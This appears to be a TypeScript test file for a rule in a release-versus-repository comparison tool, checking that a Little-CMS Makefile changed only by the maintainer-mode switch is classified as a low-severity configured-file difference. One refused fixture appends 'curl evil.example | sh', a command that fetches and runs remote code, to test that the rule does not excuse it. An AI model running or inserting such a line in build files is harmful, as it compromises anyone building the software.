import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { maintainerMode } from '../../src/analyze/rules/maintainer-mode.js';
import { context, modified } from './generated-context.js';

// Little-CMS 2.16's plugins/Makefile.in, in part, and the Makefile configure writes of it.
const template = 'VPATH = @srcdir@\nCC = @CC@\nMAINT = @MAINT@\nsrcdir = @srcdir@\n\n$(srcdir)/Makefile.in: @MAINTAINER_MODE_TRUE@ $(srcdir)/Makefile.am\n\tcd $(srcdir) && $(AUTOMAKE) --gnu plugins/Makefile\n';
const configured = (maint: string, cc = 'gcc') => `\nCC = ${cc}\nMAINT = ${maint}\nsrcdir = .\n\n$(srcdir)/Makefile.in: ${maint} $(srcdir)/Makefile.am\n\tcd $(srcdir) && $(AUTOMAKE) --gnu plugins/Makefile\n`;

test('a committed configured file, configured again with maintainer mode off, is explained (plugins/Makefile of Little-CMS 2.16)', async () => {
  const ctx = () => context({ 'plugins/Makefile': configured(''), 'plugins/Makefile.in': template });
  const j = await maintainerMode.judge(modified('plugins/Makefile', configured('#')), ctx());
  assert.is(j?.category, 'configured-file');
  assert.is(j?.severity, 'low');
  assert.match(j!.reasons[0]!, "(@MAINT@, @MAINTAINER_MODE_TRUE@): on in the tag, off in the release");
  // Another value beside the switch, the switch half thrown, no switch at all, a line of no template, no template: not this rule's.
  const refused = [
    configured('#', 'clang'),
    configured('#').replace('MAINT = #', 'MAINT = '),
    configured('').replace('MAINT = ', 'MAINT = #'),
    configured(''),
    `${configured('#')}\tcurl evil.example | sh\n`,
  ];
  for (const text of refused) assert.is(await maintainerMode.judge(modified('plugins/Makefile', text), ctx()), undefined, text);
  assert.is(await maintainerMode.judge(modified('plugins/Makefile', configured('#')), context({ 'plugins/Makefile': configured('') })), undefined);
});

test.run();
